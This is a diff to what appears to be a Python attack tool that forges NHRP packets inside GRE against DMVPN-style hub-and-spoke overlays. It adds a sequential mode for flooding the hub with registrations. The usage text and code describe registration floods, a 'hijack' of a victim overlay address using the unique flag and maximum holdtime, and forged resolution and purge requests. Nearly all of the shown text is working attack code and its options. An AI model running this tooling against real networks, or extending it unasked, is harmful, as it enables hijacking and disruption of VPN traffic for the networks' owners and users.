@@ -14,8 +14,9 @@ built; the destination's MAC address comes from the kernel's ARP table
 Kinds (NHRP inside GRE with key --key, cleartext authentication
 --auth, a Cisco-style SPI 1 password):
   nhrp-register   Registration Requests for random overlay addresses
-                  (--overlay-net), or for --overlay with the unique flag
-                  and --holdtime (a hijack)
+                  (--overlay-net; with --sequential the --count
+                  addresses after its address, each once), or for --overlay with
+                  the unique flag and --holdtime (a hijack)
   nhrp-resolve    Resolution Requests for random addresses, or naming
                   --overlay as its source at our NBMA address (a forgery)
   nhrp-purge      Purge Requests for --overlay
@@ -148,7 +149,12 @@ def packets(a):
         s = src()
         k = a.kind
         if k == 'nhrp-register':
-            ov = a.overlay or rand_addr(a.overlay_net)
+            if a.overlay:
+                ov = a.overlay
+            elif a.sequential:
+                ov = str(ipaddress.ip_interface(a.overlay_net).ip + n)
+            else:
+                ov = rand_addr(a.overlay_net)
             flags = 0x8000 if a.overlay else 0
             body = nhrp(3, s, ov, a.nhs, flags, random.getrandbits(32),
                         [(0, 32, a.holdtime, None, None)], auth)
@@ -260,6 +266,8 @@ def main():
     p.add_argument('--nhs', default='10.255.0.1')
     p.add_argument('--overlay', help='the victim overlay address')
     p.add_argument('--overlay-net', default='10.255.0.0/16')
+    p.add_argument('--sequential', action='store_true',
+                   help='nhrp-register: the addresses after --overlay-net\'s, in order')
     p.add_argument('--target', default='10.255.0.12', help='resolution target')
     p.add_argument('--holdtime', type=int, default=65535)
     p.add_argument('--from-proto', default='10.255.0.1', help='claimed source overlay address')
